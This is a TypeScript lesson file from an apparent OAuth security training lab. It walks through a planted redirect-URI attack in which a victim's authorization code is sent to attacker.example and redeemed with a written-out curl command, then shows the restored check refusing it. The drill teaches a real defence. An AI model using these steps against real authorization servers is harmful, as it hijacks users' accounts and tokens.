import type { Step } from '../../engine/lesson.ts'
import { policy, resource, tokenEndpoint, tryIt } from '../../engine/places.ts'
import {
  answered,
  client,
  failed,
  from,
  joined,
  passed,
  sent,
  status,
  that,
  to,
  tokenOf,
  waived,
} from '../../engine/requirements.ts'
import { insistsOn, waives } from './policy-lines.ts'

const drill = 'Drill 2: a planted redirect URI'
const planted = 'https://attacker.example/callback'
const ran = [
  {
    words: 'The redirect URI rule.',
    file: 'authserver/authorization/redirect-target.ts',
    at: "'redirect-uri.registered'",
  },
]
const link =
  '`{issuer}/authorize?response_type=code&client_id={spa}&redirect_uri=https://attacker.example/callback&scope=openid+profile+my/scope&state=any&code_challenge=CHALLENGE&code_challenge_method=S256`'

export const plantedRedirect: readonly Step[] = [
  {
    drill,
    title: 'Waive the check, and send Dana a link',
    idea: 'The attacker writes the question and sends Dana the link. All in it is right but one address: the answer shall go to the attacker.',
    todo: `Waive \`redirect-uri.registered\` (authorization server). Make a verifier and its challenge (lesson 4). Build the link for \`spa\`, for example with Try it: ${link}. Open it in Dana’s browser. That host does not exist; the address bar keeps the code.`,
    places: [policy, tryIt],
    lines: [
      waives('authserver', 'redirect-uri.registered'),
      {
        name: 'A',
        message: 'authorization request',
        words: 'the server took an address that nobody registered',
        clause: 'RFC 9700 §4.1',
        waived: true,
        requires: [
          from('browser'),
          client('spa'),
          sent('redirect_uri', planted),
          waived('redirect-uri.registered'),
        ],
      },
      {
        name: 'B',
        message: 'callback',
        words: 'Dana’s browser took the code to the attacker',
        requires: [to(planted), sent('code')],
      },
    ],
    look: 'The link: `redirect_uri` is `https://attacker.example/callback`.',
    answer: `Waive the check, then open ${link} in the browser in which Dana is signed in.`,
    ran,
  },
  {
    drill,
    title: 'Redeem it',
    idea: 'The attacker made the challenge, and so has its verifier. A public client has no secret.',
    todo: 'Redeem the code with curl: `grant_type=authorization_code`, `client_id={spa}`, the same `redirect_uri`, your verifier. Send the access token to `{api}`.',
    places: [tryIt, tokenEndpoint, resource],
    lines: [
      {
        name: 'C',
        message: 'token request',
        words: 'the attacker got Dana’s tokens, and PKCE was in order',
        requires: [
          from('program'),
          joined(
            'code',
            ({ sent: { code } }) => code,
            'B',
            ({ sent: { code } }) => code,
          ),
          passed('pkce.verifier-matches'),
          status(200),
        ],
      },
      {
        name: 'D',
        message: 'resource request',
        words: 'the attacker calls the resource as Dana',
        requires: [
          from('program'),
          tokenOf('C'),
          status(200),
          answered('tokenUsername', 'developer'),
        ],
      },
    ],
    look: 'The verifier whose SHA-256 was the challenge in {A}.',
    answer:
      '`curl --cacert .lab/certs/root.crt -d grant_type=authorization_code -d client_id={spa} -d redirect_uri=https://attacker.example/callback -d code=CODE -d code_verifier=VERIFIER {issuer}/token`',
    question: {
      text: 'PKCE passed in {C}. Why did it not help Dana?',
      answers: [
        {
          text: 'The attacker made the challenge.',
          reply:
            'Right. PKCE ties the code to who asked, and the attacker asked. The redirect URI ties it to the client’s address. RFC 9700 §4.1.',
        },
        {
          text: 'The challenge was missing.',
          reply: 'Not this one. Read {A}: it is there.',
        },
        {
          text: 'A public client needs no PKCE.',
          reply: 'Not this one. Read the checks of {A}: `pkce.required` was asked.',
        },
      ],
    },
    ran,
  },
  {
    drill,
    title: 'Restore the check, and open the link again',
    idea: 'A real incident: a server compares only the beginning of a redirect URI, and a link with a longer address sends codes to a stranger’s host.',
    todo: 'Restore `redirect-uri.registered`. Open the same link.',
    places: [policy],
    lines: [
      insistsOn('authserver', 'redirect-uri.registered'),
      {
        name: 'E',
        message: 'authorization request',
        words: 'the server refused on a page of its own, and sent the browser nowhere',
        clause: 'RFC 9700 §2.1',
        requires: [
          from('browser'),
          sent('redirect_uri', planted),
          failed('redirect-uri.registered'),
          status(400),
          that('Location', 'nothing', ({ leads }) => leads === undefined),
        ],
      },
    ],
    look: 'Policy: no check is waived.',
    answer:
      '`PUT {base}/control/api/policy` with `{"restore":["redirect-uri.registered"]}`, then open the link.',
    ran,
  },
]
